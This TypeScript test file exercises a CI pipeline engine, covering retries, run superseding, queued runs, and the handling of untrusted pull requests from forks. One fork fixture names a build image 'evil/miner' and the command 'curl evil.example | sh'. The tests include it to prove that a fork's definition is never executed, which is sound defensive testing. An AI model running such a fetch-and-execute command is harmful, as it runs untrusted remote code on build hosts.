import { test } from 'node:test';
import assert from 'node:assert/strict';
import { decide } from '../../shared/domain/decide.ts';
import type { BuildStateChanged, EngineEvent } from '../../shared/domain/run-events.ts';
import { handleEngineMessage, type EngineDeps } from '../../shared/services/run-engine.ts';
import { NotFoundError, RetryableError } from '../../shared/domain/errors.ts';
import type { EngineMessage, RunRequest } from '../../shared/ports/messages.ts';
import { FakeBuildRunner } from '../support/fake-build-runner.ts';
import { MemoryEventQueue, MemoryPipelineStore, MemoryReleaseQueue, MemoryRunStore } from '../support/memory-stores.ts';
import { deployJob, fourJobPipeline, imageJob, jobSpec, pipelineSpec } from '../support/engine-fixtures.ts';
import { RecordingNotifier } from '../support/recorders.ts';

function setup() {
  const pipelines = new MemoryPipelineStore();
  const runs = new MemoryRunStore();
  const events = new MemoryEventQueue();
  const releases = new MemoryReleaseQueue();
  const builds = new FakeBuildRunner();
  const notifier = new RecordingNotifier();
  let tick = 0;
  const deps: EngineDeps = { pipelines, runs, events, releases, builds, notifier, decide, now: () => new Date(Date.UTC(2026, 10, 27, 1, 0, tick++)).toISOString() };
  return { deps, pipelines, runs, events, releases, builds, notifier };
}

function runRequest(runId: string, overrides: Partial<RunRequest> = {}): RunRequest {
  return {
    type: 'RunRequest',
    id: `req:test:${runId}`,
    runId,
    pipelineId: 'web',
    trigger: { event: 'push', provider: 'github', repository: 'acme/web', branch: 'main', commit: `sha-${runId}` },
    at: `2026-11-27T01:00:00.000Z`,
    ...overrides,
  };
}

type Env = ReturnType<typeof setup>;

/** Delivers queued messages until the queue is empty; then finishes one started build per round, as CodeBuild would report it. */
async function drive(env: Env, opts: { fail?: (job: string, attempt: number) => boolean; maxRounds?: number } = {}): Promise<void> {
  const reported = new Set<string>();
  for (let round = 0; round < (opts.maxRounds ?? 100); round++) {
    let m: EngineMessage | undefined;
    while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
    const next = [...env.builds.builds.values()].find((b) => !reported.has(b.buildId));
    if (next === undefined) return;
    reported.add(next.buildId);
    const { request } = next;
    const failed = opts.fail?.(request.job, request.attempt) ?? false;
    const event: BuildStateChanged = {
      type: 'BuildStateChanged',
      id: `build:${next.buildId}:${failed ? 'FAILED' : 'SUCCEEDED'}`,
      runId: request.runId,
      at: '2026-11-27T01:05:00.000Z',
      job: request.job,
      attempt: request.attempt,
      buildId: next.buildId,
      state: failed ? 'FAILED' : 'SUCCEEDED',
      ...(request.spec.kind === 'image' && !failed ? { outputs: { imageUri: `reg/acme/web:${request.commit}`, imageDigest: 'sha256:feed' } } : {}),
    };
    await env.events.send([event]);
  }
  assert.fail('the run did not settle');
}

test('a run request starts the root jobs of the latest pipeline version', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  await handleEngineMessage(env.deps, runRequest('R1'));

  const run = await env.runs.get('R1');
  assert.equal(run.status, 'running');
  assert.equal(run.pipelineVersion, 1);
  assert.equal(run.jobs.build.status, 'queued');
  assert.deepEqual([...env.builds.builds.keys()], ['R1:build:1']);
  assert.equal(env.events.take()?.type, 'JobStarted');
});

test('a run request pins the version it names', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  env.pipelines.register('web', pipelineSpec([jobSpec('only')]));
  await handleEngineMessage(env.deps, runRequest('R1', { pipelineVersion: 1 }));
  const run = await env.runs.get('R1');
  assert.equal(run.pipelineVersion, 1);
  assert.deepEqual(Object.keys(run.plan), ['build', 'test', 'image', 'deploy']);
});

test('a run goes through build, test and image to a release with the image the image job pushed', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  await env.events.send([runRequest('R1')]);
  await drive(env);

  const run = await env.runs.get('R1');
  assert.deepEqual(Object.fromEntries(Object.entries(run.jobs).map(([k, j]) => [k, j.status])), { build: 'succeeded', test: 'succeeded', image: 'succeeded', deploy: 'queued' });
  assert.deepEqual(env.releases.sent.map((m) => m.type === 'StartRelease' && m.image), ['reg/acme/web@sha256:feed']);
  assert.deepEqual(env.builds.builds.get('R1:image:1')!.request.spec.kind, 'image');
  assert.equal(env.builds.startCalls.length, 3, 'one StartBuild per job attempt');
});

test('a pipeline without deploys ends succeeded, each job built once', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a'), jobSpec('b', { needs: ['a'] }), jobSpec('c', { needs: ['a'] })]));
  await env.events.send([runRequest('R1')]);
  await drive(env);
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'succeeded');
  assert.deepEqual([...env.builds.builds.keys()].sort(), ['R1:a:1', 'R1:b:1', 'R1:c:1']);
  assert.ok(env.notifier.sent.some((n) => n.kind === 'run_succeeded'));
});

test('a redelivered run request starts nothing new', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  await handleEngineMessage(env.deps, runRequest('R1'));
  const saves = env.runs.saves;
  await handleEngineMessage(env.deps, runRequest('R1'));
  assert.equal(env.builds.builds.size, 1);
  assert.equal(env.runs.saves, saves, 'nothing written twice');
});

test('a crash between the save and StartBuild is repaired by the redelivery, with one build', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  env.builds.failNextStart = new RetryableError('the process died here');
  await assert.rejects(handleEngineMessage(env.deps, runRequest('R1')), RetryableError);
  assert.equal((await env.runs.get('R1')).jobs.build.status, 'queued', 'the decision was saved');
  assert.equal(env.builds.builds.size, 0);

  await handleEngineMessage(env.deps, runRequest('R1'));
  await handleEngineMessage(env.deps, runRequest('R1'));
  assert.deepEqual([...env.builds.builds.keys()], ['R1:build:1']);
  await drive(env);
  assert.equal(env.builds.builds.size, 3);
});

test('a crash after a build event was saved is repaired the same way', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a'), jobSpec('b', { needs: ['a'] })]));
  await handleEngineMessage(env.deps, runRequest('R1'));
  const done: BuildStateChanged = { type: 'BuildStateChanged', id: 'build:x:SUCCEEDED', runId: 'R1', at: '2026-11-27T01:01:00.000Z', job: 'a', attempt: 1, buildId: 'slipway-small:build-1', state: 'SUCCEEDED' };
  env.builds.failNextStart = new RetryableError('crash');
  await assert.rejects(handleEngineMessage(env.deps, done), RetryableError);
  await handleEngineMessage(env.deps, done);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1', 'R1:b:1']);
});

test('a failed attempt is retried with a new token while retries remain', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('flaky', { retries: 1 })]));
  await env.events.send([runRequest('R1')]);
  await drive(env, { fail: (job, attempt) => attempt === 1 });
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'succeeded');
  assert.equal(run.jobs.flaky.attempt, 2);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:flaky:1', 'R1:flaky:2']);
});

test('a newer run on the same branch supersedes the older one and stops its builds', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  await handleEngineMessage(env.deps, runRequest('R1', { at: '2026-11-27T01:00:00.000Z' }));
  let m: EngineMessage | undefined;
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);

  await handleEngineMessage(env.deps, runRequest('R2', { at: '2026-11-27T01:01:00.000Z' }));
  const sent = env.events.sent.filter((e) => e.type === 'RunSuperseded');
  assert.deepEqual(sent.map((e) => [e.runId, e.type === 'RunSuperseded' && e.byRunId]), [['R1', 'R2']]);
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  assert.equal((await env.runs.get('R1')).status, 'superseded');
  assert.deepEqual(env.builds.stopped, [env.builds.builds.get('R1:build:1')!.buildId]);
  assert.equal((await env.runs.get('R2')).status, 'running');
});

test('in queued mode a second run waits and starts when the first ends', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')], { concurrency: 'queued' }));
  await env.events.send([runRequest('R1', { at: '2026-11-27T01:00:00.000Z' }), runRequest('R2', { at: '2026-11-27T01:00:01.000Z' })]);
  let m: EngineMessage | undefined;
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  assert.equal((await env.runs.get('R2')).status, 'queued');
  await drive(env);
  assert.equal((await env.runs.get('R1')).status, 'succeeded');
  assert.equal((await env.runs.get('R2')).status, 'succeeded');
  assert.ok(env.events.sent.some((e) => e.type === 'RunDequeued' && e.runId === 'R2'));
});

test('the queued-mode race ends with the next run started: a request admitted while the running run ends', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')], { concurrency: 'queued' }));
  await handleEngineMessage(env.deps, runRequest('R1', { at: '2026-11-27T01:00:00.000Z' }));
  let m: EngineMessage | undefined;
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  const buildId = (await env.runs.get('R1')).jobs.a.buildId!;

  // R2's admission lists R1 as running; R1's build ends right then, and R1's end finds no queued
  // run to start because R2 is not saved yet. R2 is then saved as queued behind a run that is over.
  const listActive = env.runs.listActive.bind(env.runs);
  let interleaved = false;
  env.runs.listActive = async (pipelineId) => {
    const seen = await listActive(pipelineId);
    if (!interleaved && seen.some((r) => r.runId === 'R1' && r.status === 'running')) {
      interleaved = true;
      await handleEngineMessage(env.deps, { type: 'BuildStateChanged', id: `build:${buildId}:SUCCEEDED`, runId: 'R1', at: '2026-11-27T01:01:00.000Z', job: 'a', attempt: 1, buildId, state: 'SUCCEEDED' });
    }
    return seen;
  };
  await handleEngineMessage(env.deps, runRequest('R2', { at: '2026-11-27T01:00:30.000Z' }));
  assert.ok(interleaved);
  assert.equal((await env.runs.get('R1')).status, 'succeeded');
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);

  assert.equal((await env.runs.get('R2')).status, 'running', 'R2 did not stay queued with nothing running');
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1', 'R2:a:1']);
});

test('a burst of 100 superseding requests sends at most a linear number of messages', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')]));
  const N = 100;
  const ids = Array.from({ length: N }, (_, i) => `R${String(i).padStart(3, '0')}`);
  // The pipeline's group admits them one after another, faster than any run's own group applies its RunSuperseded.
  for (const [i, runId] of ids.entries()) {
    await handleEngineMessage(env.deps, runRequest(runId, { at: new Date(Date.UTC(2026, 10, 27, 1, 0, 0, i)).toISOString() }));
  }
  const superseding = env.events.sent.filter((m) => m.type === 'RunSuperseded');
  assert.equal(superseding.length, N - 1, 'one RunSuperseded per superseded run');
  assert.ok(env.events.sent.length <= 2 * N, `${env.events.sent.length} messages for ${N} runs`);

  let m: EngineMessage | undefined;
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  const statuses = await Promise.all(ids.map(async (id) => (await env.runs.get(id)).status));
  assert.deepEqual(statuses.slice(0, -1).filter((st) => st !== 'superseded'), [], 'every older run ended superseded');
  assert.equal(statuses.at(-1), 'running');
});

test('an older run whose request arrives after a newer one of its branch is superseded on arrival and builds nothing', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')]));
  await handleEngineMessage(env.deps, runRequest('R2', { at: '2026-11-27T01:00:05.000Z' }));
  await handleEngineMessage(env.deps, runRequest('R1', { at: '2026-11-27T01:00:00.000Z' }));
  const late = await env.runs.get('R1');
  assert.equal(late.status, 'superseded');
  assert.match(late.reason!, /superseded by run R2/);
  assert.equal((await env.runs.get('R2')).status, 'running');
  assert.deepEqual([...env.builds.builds.keys()], ['R2:a:1']);
  assert.ok(!env.events.sent.some((e) => e.type === 'RunSuperseded'), 'the newer run is left alone');
});

test('a run request for an unknown pipeline leaves a failed run that says why', async () => {
  const env = setup();
  await handleEngineMessage(env.deps, runRequest('R1', { pipelineId: 'nope' }));
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'failed');
  assert.match(run.reason ?? '', /pipeline nope does not exist/);
  assert.equal(env.builds.builds.size, 0);
  await handleEngineMessage(env.deps, runRequest('R1', { pipelineId: 'nope' }));
  assert.equal((await env.runs.get('R1')).status, 'failed');
});

test('a run request queued before its pipeline was disabled starts nothing: the run fails saying so, pinned version or not', async () => {
  const env = setup();
  env.pipelines.register('web', fourJobPipeline());
  env.pipelines.register('web', fourJobPipeline());
  await env.pipelines.setDisabled('web', { by: 'dana', at: '2026-11-27T00:59:00.000Z' });
  for (const [runId, over] of [['R1', {}], ['R2', { pipelineVersion: 1 }]] as const) {
    await handleEngineMessage(env.deps, runRequest(runId, over));
    const run = await env.runs.get(runId);
    assert.equal(run.status, 'failed');
    assert.match(run.reason ?? '', /pipeline web was disabled \(by dana at 2026-11-27T00:59:00.000Z\) before this run started; enable it \(slipway pipelines enable web\)/);
  }
  assert.equal(env.builds.builds.size, 0);
  await env.pipelines.setDisabled('web', undefined);
  await handleEngineMessage(env.deps, runRequest('R3'));
  assert.equal((await env.runs.get('R3')).status, 'running', 'enabled again, requests start runs');
});

test('a definition kept in the repository is read at the run\'s commit, for planning and for every build', async () => {
  const env = setup();
  const record = env.pipelines.register('web', pipelineSpec([jobSpec('registered')]));
  record.definitionSource = { kind: 'repository', path: '.slipway.yml' };
  env.pipelines.records.set('web', [record]);
  const reads: string[] = [];
  env.deps.resolveDefinition = async (_record, trigger) => {
    reads.push(trigger.commit);
    return pipelineSpec([jobSpec('from-repo', { commands: ['make'] })]);
  };
  await env.events.send([runRequest('R1')]);
  await drive(env);
  assert.equal((await env.runs.get('R1')).status, 'succeeded');
  assert.deepEqual([...env.builds.builds.keys()], ['R1:from-repo:1']);
  assert.deepEqual(env.builds.builds.get('R1:from-repo:1')!.request.spec.commands, ['make']);
  assert.ok(reads.every((c) => c === 'sha-R1'));
});

test('queued mode: a run whose definition is read from the repository is admitted on the active runs as they are after that read', async () => {
  const env = setup();
  const spec = pipelineSpec([jobSpec('a')], { concurrency: 'queued' });
  env.pipelines.register('web', spec);
  await handleEngineMessage(env.deps, runRequest('R0'));
  assert.equal((await env.runs.get('R0')).status, 'running');
  // The pipeline now keeps its definition in the repository.
  env.pipelines.register('web', spec, { definitionSource: { kind: 'repository', path: '.slipway.yml' } });
  // R0 ends while R1's definition is being fetched from the git host.
  env.deps.resolveDefinition = async () => {
    env.runs.items.get('R0')!.status = 'succeeded';
    return spec;
  };
  await handleEngineMessage(env.deps, runRequest('R1'));
  assert.equal((await env.runs.get('R1')).status, 'running', 'not queued behind a run that had ended');
});

test('a repository definition that does not validate fails the run with its problems', async () => {
  const env = setup();
  const record = env.pipelines.register('web', fourJobPipeline());
  record.definitionSource = { kind: 'repository', path: '.slipway.yml' };
  env.pipelines.records.set('web', [record]);
  const { ValidationError } = await import('../../shared/domain/errors.ts');
  env.deps.resolveDefinition = async () => {
    throw new ValidationError('invalid .slipway.yml', [{ path: 'jobs.deploy.needs[0]', message: 'unknown job "imgae"' }]);
  };
  await handleEngineMessage(env.deps, runRequest('R1'));
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'failed');
  assert.match(run.reason ?? '', /jobs.deploy.needs\[0\]: unknown job "imgae"/);
});

test('an event for a run that no longer exists is ignored', async () => {
  const env = setup();
  const event: EngineEvent = { type: 'BuildStateChanged', id: 'build:b:SUCCEEDED', runId: 'gone', at: '2026-11-27T01:00:00.000Z', job: 'a', attempt: 1, buildId: 'b', state: 'SUCCEEDED' };
  assert.deepEqual(await handleEngineMessage(env.deps, event), { runId: 'gone', applied: false, effects: 0 });
});

test('a pipeline version that cannot be read while starting a build fails the message instead of being ignored', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a'), jobSpec('b', { needs: ['a'] })]));
  await handleEngineMessage(env.deps, runRequest('R1'));
  // Another instance (it keeps no definitions) handles a's end, and its read of the version fails.
  const store = env.pipelines;
  let failing = true;
  env.deps.pipelines = Object.assign(Object.create(store) as typeof store, {
    get: async (id: string, version?: number) => {
      if (failing) throw new NotFoundError(`pipeline ${id} version ${version} not found`);
      return store.get(id, version);
    },
  });
  const done: BuildStateChanged = { type: 'BuildStateChanged', id: 'build:a:SUCCEEDED', runId: 'R1', at: '2026-11-27T01:01:00.000Z', job: 'a', attempt: 1, buildId: 'slipway-small:build-1', state: 'SUCCEEDED' };
  await assert.rejects(handleEngineMessage(env.deps, done), NotFoundError);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1']);
  failing = false;
  await handleEngineMessage(env.deps, done);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1', 'R1:b:1']);
});

test('a run request reads the pipeline once: its first build starts on the definition it was planned with', async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')]));
  const reads: string[] = [];
  const get = env.pipelines.get.bind(env.pipelines);
  env.pipelines.get = async (id, version) => {
    reads.push(`${id}@${version ?? 'latest'}`);
    return get(id, version);
  };
  await handleEngineMessage(env.deps, runRequest('R1'));
  assert.deepEqual(reads, ['web@latest']);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1']);
  // Pinned to the latest version (the API pins what it read): the latest record is that version.
  reads.length = 0;
  await handleEngineMessage(env.deps, runRequest('R2', { pipelineVersion: 1, trigger: { event: 'push', provider: 'github', repository: 'acme/web', branch: 'other', commit: 'sha-R2' } }));
  assert.deepEqual(reads, ['web@latest']);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1', 'R2:a:1']);
  // Pinned to an older version: the latest (for the disabled mark), then that version, which the run uses.
  env.pipelines.register('web', pipelineSpec([jobSpec('b')]));
  reads.length = 0;
  await handleEngineMessage(env.deps, runRequest('R3', { pipelineVersion: 1, trigger: { event: 'push', provider: 'github', repository: 'acme/web', branch: 'third', commit: 'sha-R3' } }));
  assert.deepEqual(reads, ['web@latest', 'web@1']);
  assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1', 'R2:a:1', 'R3:a:1']);
  assert.equal((await env.runs.get('R3')).pipelineVersion, 1);
});

// ---- pull requests and forks (the trust issue) ------------------------------------------

const FORK_TRIGGER = {
  event: 'pull_request' as const,
  provider: 'github' as const,
  repository: 'acme/web',
  branch: 'main',
  commit: 'fork-head-1',
  pullRequest: 7,
  trust: 'untrusted' as const,
  fork: true,
  sourceBranch: 'feature',
  headRepository: 'mallory/web',
  baseCommit: 'base-sha',
  author: 'mallory',
};

/** A pipeline defined in its repository; resolveDefinition records which commits were read. */
function repositoryDefined(env: Env, files: Record<string, ReturnType<typeof pipelineSpec>>) {
  const record = env.pipelines.register('web', pipelineSpec([jobSpec('registered')]));
  record.definitionSource = { kind: 'repository', path: '.slipway.yml' };
  env.pipelines.records.set('web', [record]);
  const reads: string[] = [];
  env.deps.resolveDefinition = async (_record, trigger) => {
    reads.push(trigger.commit);
    const spec = files[trigger.commit];
    if (!spec) throw new NotFoundError(`.slipway.yml not found at ${trigger.commit}`);
    return spec;
  };
  return reads;
}

/** What the team wrote on main: test -> image -> deploy, forks approved first. */
function baseDefinition(forks: 'skip' | 'build' | 'approve-first' = 'approve-first') {
  return pipelineSpec(
    [
      jobSpec('test', { commands: ['npm test'] }),
      imageJob('image', { needs: ['test'] }),
      deployJob('deploy', { needs: ['image'] }),
    ],
    { pullRequests: { forks, approvers: ['arn:aws:iam::123456789012:role/Maintainers'] } },
  );
}

/** What the fork wrote: its own image and commands, no approval, a deploy to production. */
function forkDefinition() {
  return pipelineSpec([jobSpec('test', { buildImage: 'evil/miner', commands: ['curl evil.example | sh'] }), deployJob('deploy', { needs: ['test'] })], {
    pullRequests: { forks: 'build', approvers: [] },
  });
}

test("a fork's pull request never reads the fork's definition: the base branch's file plans and builds the run", async () => {
  const env = setup();
  const reads = repositoryDefined(env, { 'base-sha': baseDefinition('build'), 'fork-head-1': forkDefinition() });
  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
  await drive(env);
  assert.ok(reads.length > 0 && reads.every((c) => c === 'base-sha'), `read at ${reads.join(', ')}`);
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'succeeded');
  assert.deepEqual([...env.builds.builds.keys()], ['R1:test:1'], 'only the build job ran');
  const started = env.builds.builds.get('R1:test:1')!.request;
  assert.deepEqual(started.spec.commands, ['npm test'], "the base definition's commands, not the fork's");
  assert.equal(started.commit, 'fork-head-1', "the fork's code is what gets built");
  assert.equal(started.lane, 'fork', 'under the untrusted build role');
  assert.equal(run.jobs.image.status, 'skipped');
  assert.match(run.jobs.image.reason ?? '', /a pull request from a fork never runs image jobs/);
  assert.equal(run.jobs.deploy.status, 'skipped');
  assert.equal(env.releases.sent.length, 0, 'nothing was released');
});

test("approve-first: a fork's run waits for an allowed approver, runs after approval of that commit, and a new commit waits again", async () => {
  const env = setup();
  repositoryDefined(env, { 'base-sha': baseDefinition('approve-first') });
  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
  await drive(env);
  let run = await env.runs.get('R1');
  assert.equal(run.status, 'running');
  assert.equal(run.jobs['fork-approval'].status, 'waiting_approval');
  assert.equal(run.jobs.test.status, 'pending');
  assert.equal(env.builds.builds.size, 0, 'nothing ran before a person looked at it');

  const { ApiService } = await import('../../shared/services/api-service.ts');
  const api = new ApiService({ pipelines: env.pipelines, runs: env.runs, queue: env.events, resolveDefinition: env.deps.resolveDefinition });
  await assert.rejects(
    api.answerApproval('R1', 'fork-approval', 'approve', { by: 'arn:aws:sts::123456789012:assumed-role/Deployer/maintainer', requestId: 'q1' }),
    (e: Error) => e.name === 'ForbiddenError',
    'a role the pipeline does not name may not let a fork run',
  );
  await api.answerApproval('R1', 'fork-approval', 'approve', { by: 'arn:aws:sts::123456789012:assumed-role/Maintainers/alice', requestId: 'q2' });
  await drive(env);
  run = await env.runs.get('R1');
  assert.equal(run.status, 'succeeded');
  assert.equal(run.jobs['fork-approval'].approvedBy, 'arn:aws:sts::123456789012:assumed-role/Maintainers/alice');
  assert.deepEqual([...env.builds.builds.keys()], ['R1:test:1']);

  // The author pushes another commit: a new run, waiting again.
  await env.events.send([runRequest('R2', { trigger: { ...FORK_TRIGGER, commit: 'fork-head-2' }, at: '2026-11-27T02:00:00.000Z' })]);
  await drive(env);
  const second = await env.runs.get('R2');
  assert.equal(second.jobs['fork-approval'].status, 'waiting_approval');
  assert.equal(env.builds.builds.size, 1, 'the new commit built nothing yet');
});

test('forks: skip leaves every job skipped with the reason, and nothing is built', async () => {
  const env = setup();
  repositoryDefined(env, { 'base-sha': baseDefinition('skip') });
  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
  await drive(env);
  const run = await env.runs.get('R1');
  assert.equal(env.builds.builds.size, 0);
  assert.match(run.jobs.test.reason ?? '', /pull requests from forks are not run/);
});

test('a same-repository pull request runs its build jobs under the pull-request lane and skips image and deploy with the reason', async () => {
  const env = setup();
  env.pipelines.register('web', baseDefinition());
  const trigger = { ...FORK_TRIGGER, trust: 'trusted' as const, fork: false, headRepository: 'acme/web' };
  await env.events.send([runRequest('R1', { trigger })]);
  await drive(env);
  const run = await env.runs.get('R1');
  assert.equal(run.status, 'succeeded');
  assert.equal(env.builds.builds.get('R1:test:1')?.request.lane, 'pull-request');
  assert.match(run.jobs.image.reason ?? '', /pull-request runs do not build images; set pullRequests: same-repository/);
  assert.match(run.jobs.deploy.reason ?? '', /pull-request runs do not deploy/);
  assert.equal(run.jobs['fork-approval'], undefined, 'no approval gate for the team\'s own branches');
});

test("superseding stays in its lane: a pull request into main, a fork's included, never cancels main's run, and a push never cancels a pull request's", async () => {
  const env = setup();
  env.pipelines.register('web', pipelineSpec([jobSpec('a')], { pullRequests: { forks: 'build', approvers: [] } }));
  await env.events.send([runRequest('R1', { at: '2026-11-27T01:00:00.000Z' })]);
  let m: EngineMessage | undefined;
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  await env.events.send([runRequest('R2', { trigger: { ...FORK_TRIGGER, commit: 'f1' }, at: '2026-11-27T01:00:01.000Z' })]);
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  assert.equal((await env.runs.get('R1')).status, 'running', "the fork's pull request left main's run alone");
  await env.events.send([runRequest('R3', { at: '2026-11-27T01:00:02.000Z' })]);
  await env.events.send([runRequest('R4', { trigger: { ...FORK_TRIGGER, commit: 'f2' }, at: '2026-11-27T01:00:03.000Z' })]);
  while ((m = env.events.take()) !== undefined) await handleEngineMessage(env.deps, m);
  assert.equal((await env.runs.get('R1')).status, 'superseded', 'a newer push supersedes the older push');
  assert.equal((await env.runs.get('R2')).status, 'superseded', "the pull request's newer commit supersedes its older run");
  assert.equal((await env.runs.get('R3')).status, 'running');
  assert.equal((await env.runs.get('R4')).status, 'running');
});
